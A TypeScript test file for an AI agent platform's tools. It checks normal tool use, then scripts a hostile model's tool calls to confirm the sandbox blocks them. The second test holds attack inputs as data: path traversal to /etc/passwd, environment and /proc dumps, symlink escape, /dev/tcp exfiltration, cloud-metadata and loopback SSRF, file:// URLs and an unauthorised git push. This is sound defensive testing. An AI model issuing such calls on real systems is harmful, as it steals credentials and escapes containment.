// The core tools through the real bot: what an agent does with them, and what a model gets that does everything wrong.
import { mkdirSync, mkdtempSync, readFileSync, rmSync, writeFileSync } from 'node:fs'
import { createServer } from 'node:http'
import type { AddressInfo } from 'node:net'
import { tmpdir } from 'node:os'
import { join } from 'node:path'
import { answerQuestion, type Database } from '@quartermaster/db'
import { useTestDatabase } from '@quartermaster/db/testing'
import { detectSandbox, findBrowser, toApiName } from '@quartermaster/tools'
import { expect, onTestFinished, test } from 'vitest'
import { deliveriesOf, type RunSetup, setUpRuns, transcriptOf } from './run-setup.ts'
import { testMasterKey, until } from './start-bot.ts'

const database = useTestDatabase()
const hasSandbox = (await detectSandbox()).kind !== 'none'
const hasBrowser = (await findBrowser({ mayUnpack: false })) !== null

type Call = [tool: string, input: Record<string, unknown>]
const asking = ([tool, input]: Call) => ({ content: [{ tool: toApiName(tool), input }] })

/** A server on loopback, with every request that reached it. */
async function startPage() {
  const requests: string[] = []
  const server = createServer((request, response) => {
    requests.push(`${request.method} ${request.url}`)
    response.setHeader('content-type', 'text/html')
    response.end('<h1>Hello from the page</h1>')
  })
  await new Promise<void>((done) => server.listen(0, '127.0.0.1', done))
  onTestFinished(() => new Promise((done) => server.close(() => done(undefined))))
  return { requests, host: `127.0.0.1:${(server.address() as AddressInfo).port}` }
}

/** An agent without attachments, which has every core tool; edits are confirmed by a person. */
async function setUp(calls: readonly Call[]) {
  const setup = await setUpRuns(database, [...calls.map(asking), { content: [{ text: 'That was all.' }] }])
  const { db } = database
  await db.pool.query('DELETE FROM agent_tools WHERE agent_id = $1', [setup.workspace.agentId])
  await db.pool.query(`UPDATE policy_settings SET hooks = $2::jsonb WHERE workspace_id = $1`, [
    setup.workspace.workspaceId,
    JSON.stringify([{ pattern: 'file.edit', hook: 'confirm' }]),
  ])
  const root = mkdtempSync(join(tmpdir(), 'qm-work-'))
  onTestFinished(() => rmSync(root, { recursive: true, force: true }))
  return { ...setup, root }
}

/** Approves whatever is asked until the run ends; returns the cards. */
async function approveAll(setup: RunSetup, db: Database, runId: string) {
  const cards: { title?: string; tool?: string; diff?: unknown }[] = []
  const memberId = setup.workspace.members.owner
  await until(
    async () => {
      const question = await db.prisma.question.findFirst({ where: { runId, status: 'open' } })
      if (question) {
        const answered = await answerQuestion(db, {
          questionId: question.id,
          memberId,
          verdict: 'approve',
          surface: 'web',
        })
        if (answered.ok) cards.push(question.prompt as object)
      }
      return (await setup.run(runId)).status
    },
    (status) => ['succeeded', 'failed', 'stopped'].includes(status),
    90_000,
  )
  return cards
}

/** Every result of the run by the order of its calls, as text. */
async function resultsOf(db: Database, conversationId: string): Promise<{ text: string; failed: boolean }[]> {
  const messages = await transcriptOf(db, conversationId)
  return messages
    .filter(({ role }) => role === 'tool')
    .flatMap(({ content }) => content)
    .map((block) => ({ text: JSON.stringify(block.content), failed: block.is_error === true }))
}

test.skipIf(!hasSandbox || !hasBrowser)(
  'an agent lists, edits with a diff card, runs a command, computes, and sends a picture of a page',
  async () => {
    const { db } = database
    const page = await startPage()
    const setup = await setUp([
      ['file.write', { path: 'notes.txt', content: 'hello world\n' }],
      ['file.list', {}],
      ['file.edit', { path: 'notes.txt', search: 'hello', replace: 'goodbye' }],
      ['shell.exec', { command: 'cat notes.txt && echo done > made.txt' }],
      ['python.exec', { code: 'print(6 * 7)' }],
      ['browser.navigate', { url: `http://${page.host}/` }],
      ['browser.screenshot', {}],
      ['media.send', { path: 'made.txt' }],
    ])
    const { runId, conversationId } = await setup.say('work')
    const bot = await setup.start({ WORKSPACE_ROOT: setup.root, WEB_PRIVATE_HOSTS: page.host })
    expect(bot.ready).toMatchObject({ ready: true })
    const cards = await approveAll(setup, db, runId)
    const results = await resultsOf(db, conversationId)
    expect(results.filter(({ failed }) => failed)).toEqual([])
    expect(results[1]?.text).toContain('notes.txt')
    expect(cards.slice(0, 2)).toMatchObject([
      { tool: 'file.edit', diff: { path: 'notes.txt', before: 'hello', after: 'goodbye' } },
      { tool: 'shell.exec' },
    ])
    expect(results[3]?.text).toContain('goodbye world')
    expect(results[4]?.text).toContain('42')
    const folder = join(setup.root, setup.workspace.workspaceId)
    expect(readFileSync(join(folder, 'notes.txt'), 'utf8')).toBe('goodbye world\n')
    const media = (await deliveriesOf(db, conversationId)).filter(({ kind }) => kind === 'media')
    expect(media).toMatchObject([
      { filename: 'screenshot.png', mimeType: 'image/png' },
      { filename: 'made.txt', mimeType: 'text/plain' },
    ])
    expect(Buffer.from(String(media[0]?.data), 'base64').subarray(1, 4).toString()).toBe('PNG')
    expect(results[6]?.text).toContain('"type":"image"')
    bot.child.kill('SIGTERM')
    expect(await bot.exited).toMatchObject({ code: 0 })
  },
  150_000,
)

test.skipIf(!hasSandbox)(
  'a model that does everything wrong gets nothing it should not, even where a person approves all of it',
  async () => {
    const { db } = database
    const sentinel = await startPage()
    const canary = 'CANARY-7f3a91'
    const outside = mkdtempSync(join(tmpdir(), 'qm-outside-'))
    onTestFinished(() => rmSync(outside, { recursive: true, force: true }))
    writeFileSync(join(outside, 'secret.txt'), canary)
    const [address, port] = sentinel.host.split(':')
    const calls: Call[] = [
      ['file.read', { path: '../../../../etc/passwd' }],
      ['file.read', { path: join(outside, 'secret.txt') }],
      ['file.read', { path: '/proc/self/environ' }],
      ['file.write', { path: `${outside}/made.txt`, content: 'x' }],
      ['file.grep', { pattern: 'CANARY', path: outside }],
      ['media.send', { path: join(outside, 'secret.txt') }],
      ['media.send', { path: '../../secret.txt' }],
      ['shell.exec', { command: `ln -s ${outside} out; cat ${outside}/secret.txt` }],
      ['file.read', { path: 'out/secret.txt' }],
      ['file.write', { path: 'out/made.txt', content: 'x' }],
      ['image.analyze', { path: 'out/secret.txt' }],
      ['shell.exec', { command: 'env; cat /proc/*/environ' }],
      ['shell.exec', { command: `echo x > /dev/tcp/${address}/${port}` }],
      ['shell.exec', { command: `curl -s http://${sentinel.host}/shell; wget -q http://${sentinel.host}/shell` }],
      ['shell.exec', { command: 'git push origin main' }],
      ['process.start', { command: '/bin/sh', args: ['-c', `echo x > /dev/tcp/${address}/${port}`] }],
      ['python.exec', { code: 'print(open("/etc/passwd").read())' }],
      ['python.exec', { code: 'import os; print(os.environ)' }],
      ['web.fetch', { url: 'http://169.254.169.254/latest/meta-data/' }],
      ['web.fetch', { url: `http://${sentinel.host}/fetch` }],
      ['web.fetch', { url: `http://localhost:${port}/fetch` }],
      ['web.fetch', { url: 'file:///etc/passwd' }],
      ['http.request', { method: 'POST', url: `http://[::ffff:127.0.0.1]:${port}/post`, body: 'x' }],
      ['browser.navigate', { url: `http://${sentinel.host}/browser` }],
      ['browser.navigate', { url: 'file:///etc/passwd' }],
      ['sessions.delete', { id: 'cnv_of_somebody_else' }],
      ['no.such.tool', { anything: true }],
    ]
    const setup = await setUp(calls)
    mkdirSync(join(setup.root, 'other-workspace'))
    writeFileSync(join(setup.root, 'other-workspace/secret.txt'), canary)
    const { runId, conversationId } = await setup.say('do your worst')
    await setup.start({
      WORKSPACE_ROOT: setup.root,
      POLICY_GIT_ALLOW_PUSH: 'false',
      AUDIO_TRANSCRIBE_URL: 'http://127.0.0.1:9/',
      AUDIO_TRANSCRIBE_KEY: canary,
    })
    await approveAll(setup, db, runId)
    const results = await resultsOf(db, conversationId)
    expect(results).toHaveLength(calls.length)
    for (const [index, { text }] of results.entries()) {
      const what = `${calls[index]?.[0]} ${JSON.stringify(calls[index]?.[1])} → ${text.slice(0, 500)}`
      expect(text.includes(canary), what).toBe(false)
      expect(text.includes(testMasterKey), what).toBe(false)
      expect(text.includes('root:x:0:0:root:/root'), what).toBe(false)
      expect(text.includes('DATABASE_URL'), what).toBe(false)
    }
    expect(sentinel.requests).toEqual([])
    expect(() => readFileSync(join(outside, 'made.txt'))).toThrow('ENOENT')
    expect((await deliveriesOf(db, conversationId)).filter(({ kind }) => kind === 'media')).toEqual([])
    const pushed = results[calls.findIndex(([, input]) => String(input.command).startsWith('git push'))]
    expect(pushed).toMatchObject({ failed: true })
    // It went on to its end all the same: nothing of this is a reason for a run to break.
    expect(await setup.run(runId)).toMatchObject({ status: 'succeeded' })
  },
  150_000,
)
